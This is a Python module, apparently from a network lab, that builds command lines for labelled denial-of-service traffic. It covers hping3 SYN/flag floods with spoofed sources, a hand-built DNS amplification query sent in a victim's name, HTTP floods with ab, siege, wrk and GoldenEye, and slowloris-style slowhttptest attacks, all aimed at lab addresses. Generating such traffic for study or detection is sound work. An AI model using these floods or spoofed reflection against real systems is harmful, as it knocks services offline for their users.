"""Floods: of packets with hping3, of requests with the usual load tools, and of connections kept waiting."""

from __future__ import annotations

import random
import sys
from typing import Final, Literal

from pydantic import Field

from lab.activities.kind import ANY, ANY_CODE, Kind, Parameters, Talk, Task
from lab.guard import SILENT_V4
from lab.programs import Program
from lab.services.dnsmasq import ZONE

HPING: Final = Program("hping3", "hping3")
GOLDENEYE: Final = Program("goldeneye", "goldeneye")
FLAGS: Final = {
    "syn": ("-S",),
    "ack": ("-A",),
    "fin": ("-F",),
    "rst": ("-R",),
    "push-ack": ("-P", "-A"),
    "xmas": ("-F", "-P", "-U"),
    "udp": ("--udp",),
    "icmp": ("--icmp",),
}


class Flood(Parameters):
    """Packets in great number.

    Attributes:
        packet: of which kind.
        packets: how many.
        rate: a second.
        port: of the victim.
        size: bytes of payload.
        one_port: all from one port; else from one port after the other.
        spoofed: with the address of somebody who is not there.
    """

    packet: Literal["syn", "ack", "fin", "rst", "push-ack", "xmas", "udp", "icmp"] = "syn"
    packets: int = Field(1000, ge=1, le=100_000)
    rate: int = Field(500, ge=1, le=20_000)
    port: int = Field(80, ge=1, le=65_535)
    size: int = Field(0, ge=0, le=1400)
    one_port: bool = False
    spoofed: bool = False


class Reflection(Parameters):
    """Questions in the victim's name, whose answers hit it.

    Attributes:
        packets: how many.
        rate: a second.
    """

    packets: int = Field(500, ge=1, le=50_000)
    rate: int = Field(300, ge=1, le=10_000)


class Requests(Parameters):
    """Requests as fast as they go.

    Attributes:
        at_once: connections.
        requests: how many at most.
        keep_alive: connections are kept.
        path: what is asked for.
    """

    at_once: int = Field(20, ge=1, le=200)
    requests: int = Field(1000, ge=1, le=50_000)
    keep_alive: bool = False
    path: Literal["", "app/", "app/search?q=e", "photo.jpg"] = ""


class GoldenEye(Parameters):
    """GoldenEye's connections.

    Attributes:
        workers: processes.
        sockets: of each.
        method: get, post, or now this, now that.
    """

    workers: int = Field(2, ge=1, le=10)
    sockets: int = Field(10, ge=1, le=100)
    method: Literal["get", "post", "random"] = "get"


class Slow(Parameters):
    """Connections that are never done.

    Attributes:
        connections: how many.
        rate: a second.
        every: seconds between two pieces.
    """

    connections: int = Field(60, ge=1, le=1000)
    rate: int = Field(30, ge=1, le=500)
    every: int = Field(5, ge=1, le=60)


def _somebody(task: Task) -> str:
    return str(SILENT_V4[random.Random(task.seed).randrange(1, SILENT_V4.num_addresses - 1)])


def _flood_source(task: Task) -> str | None:
    return _somebody(task) if task.parameters.spoofed else None


def flood(task: Task) -> list[str]:
    """Flood one port."""
    wanted: Flood = task.parameters
    options = [*FLAGS[wanted.packet], "-p", str(wanted.port), "-d", str(wanted.size)]
    options += ["-k", "-s", str(1024 + task.seed % 60_000)] if wanted.one_port else []
    options += ["-a", _somebody(task)] if wanted.spoofed else []
    return _hping(task, wanted.packets, wanted.rate, *options, task.address)


def _hping(task: Task, packets: int, rate: int, *options: str) -> list[str]:
    return ["hping3", "-q", "-n", "-c", str(packets), "-i", f"u{max(1, 1_000_000 // rate)}", *options]


def _victim(task: Task) -> str:
    others = [address for address in task.others if address != task.address]
    return others[task.seed % len(others)] if others else task.own_address


def reflection(task: Task) -> list[str]:
    """Ask a name server for its largest answer in the name of somebody else."""
    wanted: Reflection = task.parameters
    labels = b"".join(bytes([len(part)]) + part for part in f"big.{ZONE}".encode().split(b"."))
    edns = b"\0\0\x29\x10\0\0\0\0\0\0\0"
    header = task.seed.to_bytes(4, "big")[:2] + b"\x01\0\0\x01\0\0\0\0\0\x01"
    question = header + labels + b"\0\0\x10\0\x01" + edns
    file = task.place / "question.bin"
    file.write_bytes(question)
    options = ("--udp", "-p", "53", "-a", _victim(task), "-d", str(len(question)), "-E", str(file))
    return _hping(task, wanted.packets, wanted.rate, *options, task.address)


def _url(task: Task) -> str:
    return f"http://{task.in_url}/{task.parameters.path}"


def ab(task: Task) -> list[str]:
    """Ask with Apache's tool."""
    wanted: Requests = task.parameters
    kept = ("-k",) if wanted.keep_alive else ()
    most = ("-n", str(max(wanted.requests, wanted.at_once)), "-c", str(wanted.at_once))
    return ["ab", "-q", "-r", "-s", "5", *most, *kept, _url(task)]


def siege(task: Task) -> list[str]:
    """Ask with siege; its configuration is one of the lab's."""
    wanted: Requests = task.parameters
    each = max(1, wanted.requests // wanted.at_once)
    configuration = task.place / "siege.conf"
    kept = "keep-alive" if wanted.keep_alive else "close"
    configuration.write_text(
        f"connection = {kept}\nlimit = 255\nlogging = false\nparser = false\nverbose = false\n"
    )
    return ["siege", "-R", str(configuration), "-b", "-c", str(wanted.at_once), "-r", str(each), _url(task)]


def wrk(task: Task) -> list[str]:
    """Ask with wrk over kept connections, for as long as it takes at 2,000 requests a second."""
    wanted: Requests = task.parameters
    seconds = max(1, min(int(task.seconds), wanted.requests // 2000))
    return ["wrk", "-t", "1", "-c", str(wanted.at_once), "-d", f"{seconds}s", _url(task)]


def goldeneye(task: Task) -> list[str]:
    """Ask with GoldenEye until it is stopped."""
    wanted: GoldenEye = task.parameters
    much = ("-w", str(wanted.workers), "-s", str(wanted.sockets), "-m", wanted.method)
    tool = [sys.executable, "-m", "lab.activities.goldeneye_tool", GOLDENEYE.required()]
    return [*tool, f"http://{task.in_url}/", *much]


def _slow(task: Task, mode: str, *options: str) -> list[str]:
    wanted: Slow = task.parameters
    much = ("-c", str(wanted.connections), "-r", str(wanted.rate), "-i", str(wanted.every))
    length = ("-l", str(max(1, int(task.seconds))))
    return ["slowhttptest", mode, *much, *length, *options, "-u", f"http://{task.in_url}/large.jpg"]


def slow_headers(task: Task) -> list[str]:
    """Never finish a request's head."""
    return _slow(task, "-H", "-x", "24", "-p", "3")


def slow_body(task: Task) -> list[str]:
    """Never finish a request's body."""
    return _slow(task, "-B", "-s", "8192", "-x", "10", "-p", "3")


def slow_read(task: Task) -> list[str]:
    """Never finish reading an answer."""
    return _slow(task, "-X", "-w", "256", "-y", "1024", "-n", "4", "-z", "32", "-p", "3")


SLOW: Final = Program("slowhttptest", "slowhttptest")
KINDS: Final = (
    Kind("flood", "DoS", HPING, Flood, flood, ipv6=False, spoofs=_flood_source, codes=ANY_CODE),
    Kind(
        "reflection",
        "DDoS",
        HPING,
        Reflection,
        reflection,
        (Talk("udp", (53,)), Talk("icmp")),
        "dnsmasq",
        ipv6=False,
        spoofs=_victim,
        codes=ANY_CODE,
    ),
    Kind("ab", "DoS", Program("ab", "apache2-utils"), Requests, ab, ANY, "nginx", codes=ANY_CODE),
    Kind(
        "siege", "DoS", Program("siege", "siege"), Requests, siege, ANY, "nginx", ipv6=False, codes=ANY_CODE
    ),
    Kind("wrk", "DoS", Program("wrk", "wrk"), Requests, wrk, ANY, "nginx"),
    Kind(
        "goldeneye",
        "DoS GoldenEye",
        GOLDENEYE,
        GoldenEye,
        goldeneye,
        ANY,
        "nginx",
        ipv6=False,
    ),
    Kind("slow-headers", "DoS Slowloris", SLOW, Slow, slow_headers, ANY, "nginx", codes=ANY_CODE),
    Kind("slow-body", "DoS Slowhttptest", SLOW, Slow, slow_body, ANY, "nginx", codes=ANY_CODE),
    Kind("slow-read", "DoS Slowhttptest", SLOW, Slow, slow_read, ANY, "nginx", codes=ANY_CODE),
)
